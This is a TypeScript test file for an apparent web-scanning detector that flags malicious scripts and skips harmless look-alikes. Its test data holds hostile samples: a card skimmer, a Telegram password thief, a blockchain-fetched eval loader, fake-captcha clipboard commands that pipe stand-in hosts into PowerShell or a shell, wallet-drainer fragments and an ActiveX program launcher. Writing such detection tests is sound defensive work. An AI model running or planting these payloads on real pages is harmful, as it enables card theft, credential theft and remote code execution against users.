import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { CapturedBody } from '@adsweep/shared/capture/artifacts.ts';
import { matchingSignatures, SCRIPT_SIGNATURES } from '../../../src/analysis/detectors/deception/malicious-script.ts';
import { detect } from '../../../src/analysis/detectors/detect.ts';
import { NO_EVIDENCE } from '../../../src/analysis/evidence/evidence.ts';
import { documentOf, PAGE, slugsOf } from '../../support/detected.ts';

describe('§2.5.13 malicious_script', () => {
  const SKIMMER = `const to = atob( 'aHR0cHM6Ly94' ); if (/checkout/.test(location)) fetch(to + cvv.value)`;
  const bodyOf = (text: string, resource_type = 'script'): CapturedBody => {
    return { url: 'https://cdn.example/x.js', resource_type, content_type: '', bytes: text.length, text };
  };

  it('is found in files and in documents, each with its URL', () => {
    const { findings } = detect({
      ...NO_EVIDENCE,
      bodies: [bodyOf(SKIMMER)],
      documents: [documentOf({ html: `<html><script async="">${SKIMMER}</script></html>` })],
    });
    assert.deepEqual(
      findings.map(({ tag_slug, url }) => [tag_slug, url]),
      [
        ['malicious_script', 'https://cdn.example/x.js'],
        ['malicious_script', PAGE],
      ],
    );
    assert.match(findings[0]?.detail ?? '', /skimmer/);
  });

  it('is found in the excerpts of a large script, and of a document whose script removed itself', () => {
    const ofScript = { ...bodyOf(''), text: null, excerpts: SKIMMER, bytes: 500_000 };
    const ofDocument = { ...ofScript, resource_type: 'document', excerpts: `<script>${SKIMMER}</script>` };
    assert.deepEqual(slugsOf({}, [], { bodies: [ofScript] }), ['malicious_script']);
    assert.deepEqual(slugsOf({}, [], { bodies: [ofDocument] }), ['malicious_script']);
    assert.deepEqual(slugsOf({}, [], { bodies: [{ ...ofDocument, excerpts: SKIMMER }] }), []);
  });

  it('is not found in displayed code, in carried content, or without one of its parts', () => {
    const bodies = [bodyOf(SKIMMER.replace('checkout', 'elsewhere')), bodyOf(SKIMMER, 'document')];
    for (const html of [
      `<pre>${SKIMMER}</pre>`,
      `<script type="application/json">${SKIMMER}</script>`,
      `<script>self.__next_f.push("${SKIMMER}")</script>`,
    ])
      assert.deepEqual(slugsOf({ html }, [], { bodies }), [], html);
  });
});

describe('§2.5.13 the signatures of malicious scripts', () => {
  const codesOf = (text: string) => [...text].map((character) => character.charCodeAt(0)).join(',');
  const [SCRIPT, ADDRESS] = [codesOf('script'), codesOf('https://x.example/a.js')];
  /** By the name of its signature: a script that does it, and one that only looks so. */
  const samples: [name: string, does: string, looksSo: string][] = [
    [
      'a skimmer of card numbers',
      "const u = atob('aHR0cHM6Ly94'); if (/onepage/.test(path)) navigator.sendBeacon(u, cc_number.value)",
      "const u = atob('aHR0cHM6Ly94'); fetch(u)",
    ],
    [
      'a thief of passwords',
      "fetch('https://api.telegram.org/bot1:a/sendMessage', { body: form.password.value })",
      "fetch('https://api.telegram.org/bot1:a/sendMessage', { body: order.number })",
    ],
    [
      'code that is fetched from a blockchain',
      "rpc('https://bsc-testnet-rpc.publicnode.com', 'eth_call').then((x) => eval(atob(x)))",
      "rpc('https://bsc-testnet-rpc.publicnode.com', 'eth_call').then(show)",
    ],
    [
      'a command that is put into the clipboard to be run',
      "box.value = 'mshta https://x.example/a # I am not a robot'; document.execCommand('copy')",
      "box.value = 'powershell is a shell'; document.execCommand('copy')",
    ],
    [
      'a command that a captcha puts into the clipboard',
      `navigator.clipboard.writeText('powershell -c "irm https://x.example/a | iex" # I am not a robot')`,
      `navigator.clipboard.writeText('powershell -c "irm bun.sh/install.ps1 | iex"')`,
    ],
    [
      'a concealed command that is put into the clipboard',
      `navigator.clipboard.writeText(atob('${btoa('powershell -c "irm https://x.example/a"')}'))`,
      `navigator.clipboard.writeText(atob('${btoa('https://x.example/invite')}'))`,
    ],
    [
      'a drainer of crypto wallets',
      'let minimalDrainValue = 0.001; let eth_enabled = true; let multipliers = { SEAPORT: 1 }',
      "let minimalValue = 0.001; ethereum.request({ method: 'eth_requestAccounts' }); pool.toDrain(items)",
    ],
    [
      'a drainer of crypto wallets that reports to a messenger',
      "nft.setApprovalForAll(owner, true); fetch('https://api.telegram.org/bot1:a/sendMessage', { body: wallet })",
      "mint(1); fetch('https://api.telegram.org/bot1:a/sendMessage', { body: wallet })",
    ],
    [
      'an address that is spelt by character codes',
      `var e = document.createElement(String.fromCharCode(${SCRIPT})); e.src = String.fromCharCode(${ADDRESS})`,
      `const API = String.fromCharCode(${ADDRESS}); const e = document.createElement('script'); e.src = API`,
    ],
    [
      'a program that is started by ActiveX',
      "new ActiveXObject('WScript.Shell').Run('cmd /c calc')",
      "new ActiveXObject('Microsoft.XMLHTTP').open('GET', '/')",
    ],
  ];

  it('each match their script, and none that only looks similar', () => {
    const found = (script: string) => matchingSignatures(script).map(({ name }) => name);
    for (const [name, does, looksSo] of samples) assert.deepEqual([found(does), found(looksSo)], [[name], []], name);
  });

  it('match a concealed command, and no command of an installer', () => {
    const copied = (command: string) => matchingSignatures(`navigator.clipboard.writeText(\`${command}\`)`).length > 0;
    for (const concealed of [
      'powershell -w hidden -c "irm https://x.example/a | iex"',
      'powershell -nop -enc SQBFAFgA',
      `cmd /c "curl https://x.example/a | sh # verification ID: 123"`,
      '& ([scriptblock]::Create((irm https://x.example/a))) # powershell, captcha verification',
      'msiexec /i https://x.example/a.msi /qn # I am not a robot',
      'echo "Y3VybA==" | base64 -D | zsh',
      "curl -kfsSL $(echo 'aHR0cHM6Ly94'|base64 -D)|zsh",
    ])
      assert.ok(copied(concealed), concealed);
    for (const installer of [
      'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"',
      'powershell iex (irm https://community.example/install.ps1)',
      'powershell iex (new-object net.webclient).downloadstring("https://get.scoop.example")',
      '& ([scriptblock]::Create((irm "https://tool.example/"))) # in powershell',
      'curl -fsSL https://bun.sh/install | bash',
      'curl -LsSf https://astral.sh/uv/install.sh | sh',
      'export PASSWORD=$(kubectl get secret a | base64 --decode)',
    ])
      assert.ok(!copied(installer), installer);
  });

  it('are all tested here, and have a source each', () => {
    assert.deepEqual(
      SCRIPT_SIGNATURES.map(({ name }) => name),
      samples.map(([name]) => name),
    );
    for (const { source } of SCRIPT_SIGNATURES) assert.match(source, /[\w-]+\.[a-z]{2,}\//);
  });
});

describe('§2.5.13 scripts that contain everything somewhere', () => {
  const names = (script: string) => matchingSignatures(script).map(({ name }) => name);
  const filler = ';var borderColor=1'.repeat(400);

  it('a bundle with a picture or a source map in base64 is no skimmer of card numbers', () => {
    const picture = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>').toString('base64');
    const map = Buffer.from('{"a":1,"file":"https://shop.example/"}').toString('base64');
    const pays = 'atob(key);input.name="cvv";location="/checkout";fetch(url)';
    for (const data of [`"data:image/svg+xml;base64,${picture}"`, `"${map}"`, '"/out?to=aHR0cHM6Ly9zaG9wLmV4YW1wbGUv"'])
      assert.deepEqual(names(`x=${data};${pays}`), [], data);
    assert.deepEqual(names(`x="aHR0cHM6Ly9zaG9wLmV4YW1wbGUv";${pays}`), ['a skimmer of card numbers']);
    assert.deepEqual(names(`x="a|aHR0cHM6Ly9zaG9wLmV4YW1wbGUv".split("|");${pays}`), ['a skimmer of card numbers']);
  });

  it('a script that sets up the printer of an old browser, and parses a text elsewhere, starts no program', () => {
    const prints = 'new ActiveXObject("WScript.Shell").RegWrite("HKCU\\\\header","")';
    assert.deepEqual(names(`${prints}${filler}/a/.exec(text)`), []);
    assert.deepEqual(names(`${filler}${prints};shell.exec("cmd")`), ['a program that is started by ActiveX']);
  });

  it('a bundle whose contact form writes to a messenger is no thief of passwords', () => {
    const sends = 'fetch("https://api.telegram.org/bot1:a/sendMessage",{body:phone.value})';
    const library = 'var inputs={password:!0};';
    assert.deepEqual(names(library + filler + sends), []);
    assert.deepEqual(names(sends.replace('phone', 'password') + filler), ['a thief of passwords']);
    assert.deepEqual(names(`${sends}${filler}${sends.replace('phone', 'password')}`), ['a thief of passwords']);
  });
});
